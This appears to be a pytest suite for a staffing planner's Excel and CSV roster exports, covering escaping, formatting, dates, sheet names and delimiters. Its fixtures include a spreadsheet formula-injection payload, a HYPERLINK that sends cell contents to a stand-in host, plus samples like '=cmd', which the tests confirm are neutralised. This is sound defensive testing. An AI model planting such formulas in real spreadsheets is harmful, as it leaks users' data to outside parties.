"""Excel workbook and roster CSV exports, checked by reading the files back."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date, datetime, timedelta, timezone

import numpy as np
import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from planner.exports import (
    excel_value,
    roster_csv_bytes,
    sheet_names,
    summary_frame,
    summary_tables,
    workbook_bytes,
)

ATTACK = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'


def _roster_like() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "agent_id": ["a1", "a2", "a3"],
            "name": [ATTACK, "Müller", "@SUM(1+1)"],
            "tier": ["L1", "L2", "L3"],
            "paid_hours": [7.0, 8.5, 9.0],
            "gap": [-2, 0, 3],
            "note": ["+49 30 1234", "-2", "\tcmd"],
        }
    )


def _read_workbook(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


def test_workbook_formula_text_is_text() -> None:
    sheet = _read_workbook(workbook_bytes({"roster": _roster_like()}))["roster"]

    cell = sheet["B2"]
    assert cell.data_type == "s"
    assert cell.value == "'" + ATTACK
    assert sheet["B4"].data_type == "s"
    assert sheet["B4"].value == "'@SUM(1+1)"
    assert sheet["F2"].value == "'+49 30 1234"
    assert sheet["F4"].value == "'\tcmd"


def test_workbook_has_no_formula_cells() -> None:
    book = _read_workbook(workbook_bytes({"roster": _roster_like()}))

    types = {cell.data_type for row in book["roster"].iter_rows() for cell in row}
    assert "f" not in types


def test_workbook_negative_gap_is_number() -> None:
    sheet = _read_workbook(workbook_bytes({"roster": _roster_like()}))["roster"]

    assert sheet["E2"].data_type == "n"
    assert sheet["E2"].value == -2
    assert sheet["D3"].value == 8.5


def test_workbook_numeric_text_stays_text() -> None:
    sheet = _read_workbook(workbook_bytes({"roster": _roster_like()}))["roster"]

    assert sheet["F3"].data_type == "s"
    assert sheet["F3"].value == "-2"


def test_workbook_header_frozen_and_bold() -> None:
    sheet = _read_workbook(workbook_bytes({"roster": _roster_like()}))["roster"]

    assert sheet.freeze_panes == "A2"
    assert [cell.value for cell in sheet[1]] == list(_roster_like().columns)
    assert sheet["A1"].font.bold


def test_workbook_column_widths_fit_content() -> None:
    sheet = _read_workbook(workbook_bytes({"roster": _roster_like()}))["roster"]

    name_width = sheet.column_dimensions["B"].width
    tier_width = sheet.column_dimensions["C"].width
    assert name_width >= len(ATTACK)
    assert tier_width < name_width
    assert tier_width >= len("tier")


def test_workbook_datetimes_are_iso_text() -> None:
    frame = pd.DataFrame(
        {
            "interval_start": pd.to_datetime(["2027-03-28T01:00:00Z"], utc=True),
            "start_local": [
                datetime(2027, 3, 28, 3, 0, tzinfo=timezone(timedelta(hours=2)))
            ],
            "date_local": [date(2027, 3, 28)],
        }
    )
    sheet = _read_workbook(workbook_bytes({"coverage": frame}))["coverage"]

    assert sheet["A2"].value == "2027-03-28T01:00:00Z"
    assert sheet["A2"].data_type == "s"
    assert sheet["B2"].value == "2027-03-28T03:00:00+02:00"
    assert sheet["C2"].value == "2027-03-28"


def test_workbook_missing_and_infinite_values() -> None:
    frame = pd.DataFrame({"asa_minutes": [np.nan, np.inf, 1.25]})
    sheet = _read_workbook(workbook_bytes({"coverage": frame}))["coverage"]

    assert sheet["A2"].value is None
    assert sheet["A3"].value == "inf"
    assert sheet["A4"].value == 1.25


def test_workbook_one_sheet_per_table_in_order() -> None:
    tables = {"summary": pd.DataFrame({"key": ["status"], "value": ["OPTIMAL"]})}
    tables["roster"] = _roster_like()
    tables["coverage"] = pd.DataFrame({"gap": [1]})
    book = _read_workbook(workbook_bytes(tables))

    assert book.sheetnames == ["summary", "roster", "coverage"]


def test_workbook_strips_control_characters() -> None:
    frame = pd.DataFrame({"name": ["Ann\x07e\x00"]})
    sheet = _read_workbook(workbook_bytes({"agents": frame}))["agents"]

    assert sheet["A2"].value == "Anne"


def test_sheet_names_valid_and_distinct() -> None:
    names = sheet_names(["a/b", "a:b", "x" * 40, "x" * 40, "'quoted'", ""])

    assert names[0] == "a_b"
    assert names[1] == "a_b (2)"
    assert all(len(name) <= 31 for name in names)
    assert len({name.lower() for name in names}) == len(names)
    assert names[4] == "quoted"
    assert names[5] == "Sheet"


@settings(max_examples=40, deadline=None)
@given(st.lists(st.text(max_size=30), min_size=1, max_size=5))
def test_workbook_text_never_formula(texts: list[str]) -> None:
    frame = pd.DataFrame({"text": texts})
    sheet = _read_workbook(workbook_bytes({"t": frame}))["t"]

    for cell in sheet["A"][1:]:
        assert cell.data_type != "f"
        if isinstance(cell.value, str):
            assert not cell.value.startswith("=")


def test_excel_value_numpy_scalars() -> None:
    assert excel_value(np.int64(-3)) == -3
    assert isinstance(excel_value(np.int64(-3)), int)
    assert excel_value(np.float32(0.5)) == 0.5
    assert excel_value(np.bool_(True)) is True
    assert excel_value(pd.NaT) is None


def test_summary_frame_flattens_nested_keys() -> None:
    summary = {
        "status": "OPTIMAL",
        "gap": 0.0,
        "mttr_minutes": {"overall": 41.5, "L1": 20.0},
        "proposals": ["add one L2 agent", "=cmd"],
        "floor_violations": [],
    }
    frame = summary_frame(summary)
    values = dict(zip(frame["key"], frame["value"]))

    assert values["status"] == "OPTIMAL"
    assert values["mttr_minutes.L1"] == 20.0
    assert values["proposals.2"] == "=cmd"
    assert values["floor_violations"] == ""
    sheet = _read_workbook(workbook_bytes({"summary": frame}))["summary"]
    assert {cell.value for cell in sheet["B"]} >= {"'=cmd", 41.5}


def test_summary_tables_split_record_lists() -> None:
    summary = {
        "status": "FEASIBLE",
        "floor_violations": [
            {"interval_start": "2027-03-22T00:00:00Z", "tier_or_queue": "L2"},
            {"interval_start": "2027-03-22T01:00:00Z", "tier_or_queue": "L2"},
        ],
        "proposals": ["add one L2 agent"],
    }
    tables = summary_tables(summary)

    assert list(tables) == ["summary", "floor_violations"]
    assert len(tables["floor_violations"]) == 2
    assert list(tables["floor_violations"].columns) == [
        "interval_start",
        "tier_or_queue",
    ]
    keys = list(tables["summary"]["key"])
    assert keys == ["status", "proposals.1"]


def test_roster_csv_default_layout() -> None:
    data = roster_csv_bytes(_roster_like())

    assert not data.startswith(b"\xef\xbb\xbf")
    assert b"\r\n" not in data
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"))))
    assert rows[0] == list(_roster_like().columns)
    assert rows[1][1] == "'" + ATTACK
    assert rows[1][4] == "-2"
    assert rows[2][5] == "-2"


def test_roster_csv_excel_bom_and_crlf() -> None:
    data = roster_csv_bytes(_roster_like(), excel=True)

    assert data.startswith(b"\xef\xbb\xbf")
    assert data.count(b"\r\n") == 4
    text = data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[2][1] == "Müller"
    assert rows[1][1].startswith("'=")


def test_roster_csv_semicolon_decimal_comma() -> None:
    data = roster_csv_bytes(_roster_like(), excel=True, delimiter=";")

    text = data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert rows[0][0] == "agent_id"
    assert rows[2][3] == "8,5"
    assert rows[1][4] == "-2"
    assert rows[1][1] == "'" + ATTACK


def test_roster_csv_rejects_unknown_delimiter() -> None:
    with pytest.raises(ValueError, match="delimiter"):
        roster_csv_bytes(_roster_like(), delimiter="|")


def test_workbook_is_a_valid_zip_package() -> None:
    data = workbook_bytes({"roster": _roster_like()})

    with zipfile.ZipFile(io.BytesIO(data)) as package:
        assert package.testzip() is None
        assert "xl/workbook.xml" in package.namelist()
